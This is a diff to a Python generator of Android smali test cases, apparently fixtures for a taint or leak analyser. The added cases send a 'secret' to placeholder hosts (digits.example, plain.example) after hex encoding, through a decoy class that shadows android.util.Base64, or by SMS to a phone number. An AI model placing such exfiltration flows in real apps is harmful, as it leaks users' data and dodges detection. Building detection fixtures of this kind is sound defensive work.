@@ -146,7 +146,62 @@ def through_file(name):
             '    const-string v0, "https://queue.example/"\n    invoke-static {v0, v1}, Lt/Main;->post(Ljava/lang/String;[B)V\n')
 
 
+# What is sealed is written out digit by digit; the loop's end stands at its head, or its body behind the return as dx lays it.
+HEX_HEAD = """    :again
+    array-length v2, v1
+    if-ge v3, v2, :done
+    aget-byte v2, v1, v3
+    invoke-static {v2}, Ljava/lang/Integer;->toHexString(I)Ljava/lang/String;
+    move-result-object v2
+    invoke-virtual {v4, v2}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
+    add-int/lit8 v3, v3, 0x1
+    goto :again
+    :done
+%s"""
+HEX_BEHIND = """    :again
+    array-length v2, v1
+    if-lt v3, v2, :body
+%s    return-void
+    :body
+    aget-byte v2, v1, v3
+    invoke-static {v2}, Ljava/lang/Integer;->toHexString(I)Ljava/lang/String;
+    move-result-object v2
+    invoke-virtual {v4, v2}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
+    add-int/lit8 v3, v3, 0x1
+    goto :again
+"""
+
+
+def through_loop(shape):
+    return ('    const-string v1, "secret"\n    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B\n    move-result-object v1\n'
+            "    invoke-static {v1}, Lt/Main;->seal([B)[B\n    move-result-object v1\n    const/4 v3, 0x0\n"
+            "    new-instance v4, Ljava/lang/StringBuilder;\n    invoke-direct {v4}, Ljava/lang/StringBuilder;-><init>()V\n"
+            + shape % ("    invoke-virtual {v4}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;\n    move-result-object v4\n"
+                       "    invoke-virtual {v4}, Ljava/lang/String;->getBytes()[B\n    move-result-object v4\n"
+                       '    const-string v0, "https://digits.example/"\n    invoke-static {v0, v4}, Lt/Main;->post(Ljava/lang/String;[B)V\n'))
+
+
+# The platform has this class, and its loader asks the platform first: this one never runs.
+DECOY = """.class public Landroid/util/Base64;
+.super Ljava/lang/Object;
+.method public static decode(Ljava/lang/String;I)[B
+    .registers 3
+    const/16 v0, 0x20
+    new-array v0, v0, [B
+    return-object v0
+.end method
+"""
+
 shapes = {
+    "loop_head": [activity(through_loop(HEX_HEAD), 8)],
+    "loop_behind": [activity(through_loop(HEX_BEHIND), 8)],
+    "decoy_class": [activity('    const-string v0, "http://plain.example:8080/in"\n' + SEND), DECOY],
+    "text_message": [activity('    const-string v1, "secret"\n    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B\n    move-result-object v1\n'
+                              "    invoke-static {v1}, Lt/Main;->seal([B)[B\n    move-result-object v1\n    const/4 v2, 0x0\n"
+                              "    invoke-static {v1, v2}, Landroid/util/Base64;->encodeToString([BI)Ljava/lang/String;\n    move-result-object v3\n"
+                              "    invoke-static {}, Landroid/telephony/SmsManager;->getDefault()Landroid/telephony/SmsManager;\n    move-result-object v0\n"
+                              '    const-string v1, "+4930123456"\n    const/4 v4, 0x0\n    const/4 v5, 0x0\n'
+                              "    invoke-virtual/range {v0 .. v5}, Landroid/telephony/SmsManager;->sendTextMessage(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Landroid/app/PendingIntent;Landroid/app/PendingIntent;)V\n", 8)],
     "same_file": [activity(through_file("queue.bin"), 8)],
     "other_file": [activity(through_file("report.bin"), 8)],
     "constant": [activity('    const-string v0, "http://plain.example:8080/in"\n' + SEND)],
